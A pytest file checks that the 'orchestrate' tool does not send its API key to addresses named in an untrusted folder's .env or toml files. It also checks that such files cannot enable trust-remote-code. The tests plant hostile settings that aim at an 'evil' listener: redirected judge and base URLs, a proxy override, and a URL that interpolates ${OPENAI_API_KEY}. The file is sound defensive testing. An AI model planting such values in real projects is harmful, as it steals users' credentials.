"""A working folder by somebody else: a cloned repository, an unpacked archive."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.attacks.scene import KEY, in_folder, listener

DOCTOR = ("doctor", "--json")
EXTRACT = ("extract", "--traits", "evil", "--run", "r")


@pytest.mark.parametrize(
    ("way", "command"),
    [
        ("toml", EXTRACT),
        ("env", DOCTOR),
        ("config", DOCTOR),
        ("base-url", DOCTOR),
        ("interpolated", EXTRACT),
    ],
)
def test_a_key_from_elsewhere_is_not_sent_where_it_says(
    tmp_path: Path, way: str, command: tuple[str, ...]
) -> None:
    with listener() as evil:
        settings = f"judge-model = 'm'\njudge-url = '{evil.url}'\n"
        texts = {
            "toml": ("orchestrate.toml", settings),
            "config": (".env", "ORCHESTRATE_CONFIG=other.toml\n"),
            "env": (".env", f"ORCHESTRATE_JUDGE_MODEL=m\nORCHESTRATE_JUDGE_URL={evil.url}\n"),
            "base-url": (
                ".env",
                f"ORCHESTRATE_JUDGE_MODEL=m\nOPENAI_BASE_URL={evil.url}\nHTTPS_PROXY={evil.url}\n",
            ),
            "interpolated": (
                ".env",
                "ORCHESTRATE_JUDGE_MODEL=m\n"
                f"ORCHESTRATE_JUDGE_URL={evil.url}/${{OPENAI_API_KEY}}\n",
            ),
        }
        name, text = texts[way]
        (tmp_path / name).write_text(text)
        (tmp_path / "other.toml").write_text(settings)
        (tmp_path / "ask").mkdir()

        # OpenAI's own address, where the key may go, is out of reach here
        away = {"HTTPS_PROXY": "http://127.0.0.1:9", "HTTP_PROXY": ""}
        ended = in_folder(
            tmp_path, *command, environment={**away, "ORCHESTRATE_RUNS_DIR": str(tmp_path / "ask")}
        )

        assert ended.returncode != 0
        assert evil.heard == []
        assert KEY not in ended.stdout + ended.stderr


def test_what_is_asked_for_is_sent(tmp_path: Path) -> None:
    """The folder's judge with the key beside it in the folder, or named by the user."""
    with listener() as judge:
        (tmp_path / "orchestrate.toml").write_text(
            f"judge-model = 'm'\njudge-url = '{judge.url}'\n"
        )

        in_folder(tmp_path, *DOCTOR, "--judge-url", judge.url)
        by_flag = str(judge).count(KEY)
        in_folder(tmp_path, *DOCTOR, environment={"ORCHESTRATE_ONLY_JUDGES_AT": judge.url})
        by_permission = str(judge).count(KEY)
        (tmp_path / ".env").write_text("OPENAI_API_KEY=the-keys-of-the-folder\n")
        in_folder(tmp_path, *DOCTOR, environment={"OPENAI_API_KEY": ""})

        assert 0 < by_flag < by_permission
        assert str(judge).count(KEY) == by_permission


def test_the_permission_holds_for_doctor(tmp_path: Path) -> None:
    with listener() as evil:
        ended = in_folder(
            tmp_path,
            *(*DOCTOR, "--judge-model", "m", "--judge-url", evil.url),
            environment={"ORCHESTRATE_ONLY_JUDGES_AT": "https://api.openai.com/v1"},
        )

        assert evil.heard == []
        assert "ORCHESTRATE_ONLY_JUDGES_AT" in ended.stdout


def test_a_judge_worker_does_not_lend_its_key_to_the_folders_broker(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("ORCHESTRATE_BROKER_URL=redis://127.0.0.1:1/0\n")

    ended = in_folder(tmp_path, "worker", "judge", "--no-embedded")

    assert ended.returncode == 2
    assert "ORCHESTRATE_ONLY_JUDGES_AT" in ended.stderr


@pytest.mark.parametrize("way", ["toml", "env"])
def test_it_cannot_say_that_a_models_code_is_trusted(tmp_path: Path, way: str) -> None:
    if way == "toml":
        (tmp_path / "orchestrate.toml").write_text("trust-remote-code = true\n")
    else:
        (tmp_path / ".env").write_text("ORCHESTRATE_TRUST_REMOTE_CODE=1\n")

    ended = in_folder(tmp_path, "extract", "--traits", "evil", "--dry-run")

    # refused with its name, or left aside with its name
    assert "trust-remote-code" in ended.stderr or "TRUST_REMOTE_CODE" in ended.stderr
    assert "--trust-remote-code lets" not in ended.stdout + ended.stderr
